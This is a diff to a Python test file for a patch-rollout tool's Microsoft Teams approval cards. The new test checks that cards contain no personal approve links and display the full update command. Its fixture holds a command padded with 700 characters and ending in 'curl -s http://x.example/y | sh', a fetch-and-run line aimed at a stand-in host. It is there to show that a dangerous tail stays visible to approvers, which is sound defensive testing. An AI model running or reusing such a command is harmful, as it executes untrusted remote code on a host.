@@ -10,7 +10,6 @@ import pytest
 
 from activities import notify
 from activities.notify import Message
-from activities.notify.links import LinkPair
 from activities.notify.teams import MAX_MESSAGE_BYTES, TeamsNotifier, envelope
 from tests.teams.conftest import TeamsStandIn
 from workflows.models import HostProgress, HostState, Phase, RolloutNotice, RolloutSummary
@@ -63,32 +62,24 @@ def texts(card: dict) -> str:
     return "\n".join(out)
 
 
-async def test_approval_card_has_each_approvers_own_buttons(teams: TeamsStandIn) -> None:
-    async def links(n: RolloutNotice) -> dict[str, LinkPair]:
-        return {
-            a: LinkPair(f"https://pp/approve?t={a}", f"https://pp/reject?t={a}")
-            for a in (ALICE, CAROL)
-        }
-
-    assert await TeamsNotifier(teams.url, links=links).send(notify.approval_request(notice()))
+async def test_approval_card_carries_no_personal_link_and_the_whole_command(
+    teams: TeamsStandIn,
+) -> None:
+    # Spaces before `; curl …` used to push the tail of a command past a 500-character cut.
+    command = "apt-get -y upgrade " + "x" * 700 + "; curl -s http://x.example/y | sh"
+    assert await TeamsNotifier(teams.url).send(
+        notify.approval_request(notice(update_command=command))
+    )
     card = assert_envelope(teams.posts[0])
     assert card["body"][0]["text"] == "Approval needed: patch cluster-a"
     assert "rollout-9" in texts(card) and BOB in texts(card) and "a1, a2, a3" in texts(card)
-    action_sets = [b for b in card["body"] if b["type"] == "ActionSet"]
-    buttons = [(a["type"], a["title"], a["url"]) for s in action_sets for a in s["actions"]]
-    assert buttons == [
-        ("Action.OpenUrl", f"Approve as {ALICE}", f"https://pp/approve?t={ALICE}"),
-        ("Action.OpenUrl", f"Reject as {ALICE}", f"https://pp/reject?t={ALICE}"),
-        ("Action.OpenUrl", f"Approve as {CAROL}", f"https://pp/approve?t={CAROL}"),
-        ("Action.OpenUrl", f"Reject as {CAROL}", f"https://pp/reject?t={CAROL}"),
-    ]
-
-
-async def test_approval_card_without_links_names_the_cli(teams: TeamsStandIn) -> None:
-    assert await TeamsNotifier(teams.url).send(notify.approval_request(notice()))
-    card = assert_envelope(teams.posts[0])
-    assert "patchpilot approve rollout-9" in texts(card)
+    assert command in texts(card)
+    # A card goes to the whole channel: a personal link there would let anyone decide as its
+    # approver. Approvers are pointed to their own e-mail, Slack or the CLI instead.
     assert not [b for b in card["body"] if b["type"] == "ActionSet"]
+    scraped = json.dumps(card)
+    assert "Action.OpenUrl" not in scraped and "/approve?" not in scraped
+    assert "patchpilot approve rollout-9" in texts(card)
 
 
 async def test_host_and_failure_cards(teams: TeamsStandIn) -> None:
